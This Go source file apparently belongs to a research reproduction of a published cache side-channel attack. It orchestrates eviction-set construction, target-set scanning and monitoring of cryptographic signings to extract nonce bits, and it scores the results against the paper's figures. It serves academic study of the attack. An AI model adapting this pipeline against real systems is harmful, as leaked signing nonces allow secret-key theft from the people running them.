package attack

import (
	"fmt"
	"time"

	"repro/internal/clock"
	"repro/internal/evset"
	"repro/internal/probe"
	"repro/internal/psd"
	"repro/internal/stats"
)

// E2EOptions configures the end-to-end run (§7.3 protocol).
type E2EOptions struct {
	// Bulk configures Step 1 (eviction-set construction).
	Bulk evset.BulkOptions
	// ScanTimeout bounds Step 2 (60 s for PageOffset in the paper).
	ScanTimeout clock.Cycles
	// Traces is the number of signings monitored in Step 3 (paper: 10).
	Traces int
}

// DefaultE2EOptions returns the paper's PageOffset protocol.
func DefaultE2EOptions() E2EOptions {
	return E2EOptions{
		Bulk: evset.BulkOptions{
			Algo:   evset.BinSearch{},
			PerSet: evset.FilteredOptions(),
		},
		ScanTimeout: clock.FromMillis(60_000),
		Traces:      10,
	}
}

// E2EResult reports one end-to-end attack (§7.3).
type E2EResult struct {
	// Step 2.
	Scan ScanResult
	// Step 3: per-signature extraction fractions and error rates.
	Fractions  []float64
	ErrorRates []float64
	// Exact bit accounting across all monitored traces: ladder iterations
	// observed, bits recovered, and recovered bits that were wrong.
	BitsTotal     int
	BitsRecovered int
	BitsWrong     int
	// Totals.
	TotalTime clock.Cycles
	// SignalFound is the paper's per-host success notion: a potential
	// target set was identified and produced a signal.
	SignalFound bool
}

// MedianFraction returns the median of the per-trace extracted-bit
// fractions (the paper's headline number: 81%).
func (r E2EResult) MedianFraction() float64 { return stats.Median(r.Fractions) }

// MeanErrorRate returns the mean bit error rate (paper: 3%).
func (r E2EResult) MeanErrorRate() float64 { return stats.Mean(r.ErrorRates) }

// RunEndToEnd executes Steps 1–3 against this session's victim using
// pre-trained classifiers: build eviction sets at the victim's page
// offset, identify the target SF set with the PSD scanner while
// triggering signings, then monitor `Traces` further signings and
// extract their nonce bits. Each step runs as the session's "build",
// "scan" and "extract" phase, and the first step that fails ends the
// run.
func (s *Session) RunEndToEnd(scanner *psd.Scanner, ex *Extractor, opt E2EOptions) E2EResult {
	t0 := s.H.Clock().Now()
	res := E2EResult{}
	var bulk evset.BulkResult
	res.SignalFound = s.Phases.Run("build", func() bool {
		bulk = s.BuildEvictionSets(opt.Bulk)
		return len(bulk.Sets) > 0
	}) && s.Phases.Run("scan", func() bool {
		res.Scan = s.ScanForTarget(bulk.Sets, scanner, ScanOptions{Timeout: opt.ScanTimeout})
		return res.Scan.Found
	})
	if res.SignalFound {
		// On traced runs each signing emits a cat="probe" span nested
		// (on the same simulated timeline) inside the extract phase.
		s.Phases.Run("extract", func() bool {
			s.extract(&res, ex, opt.Traces)
			return res.BitsRecovered > 0
		})
	}
	res.TotalTime = s.H.Clock().Now() - t0
	return res
}

// extract is RunEndToEnd's Step 3: it monitors the scanned set across
// traces signings and scores each one's extracted nonce bits into res.
func (s *Session) extract(res *E2EResult, ex *Extractor, traces int) {
	m := probe.NewMonitor(s.Env, probe.Parallel, res.Scan.Set.Lines)
	traced := s.Trace.Enabled()
	for i := 0; i < traces; i++ {
		sigStart := s.H.Clock().Now()
		var w0 time.Time
		if traced {
			w0 = time.Now()
		}
		rec := s.TriggerOneSigning()
		// Capture from just before the request through its end.
		dur := rec.End - s.H.Clock().Now() + 50_000
		tr := m.Capture(dur)
		bits := ex.Extract(tr)
		sc := ScoreExtraction(bits, rec, ex.IterCycles)
		if traced {
			s.Trace.Span(fmt.Sprintf("signing %d", i), "probe",
				sigStart, s.H.Clock().Now()-sigStart, time.Since(w0), sc.Recovered > 0)
		}
		res.Fractions = append(res.Fractions, sc.Fraction())
		res.ErrorRates = append(res.ErrorRates, sc.ErrorRate())
		res.BitsTotal += sc.Total
		res.BitsRecovered += sc.Recovered
		res.BitsWrong += sc.Wrong
	}
}
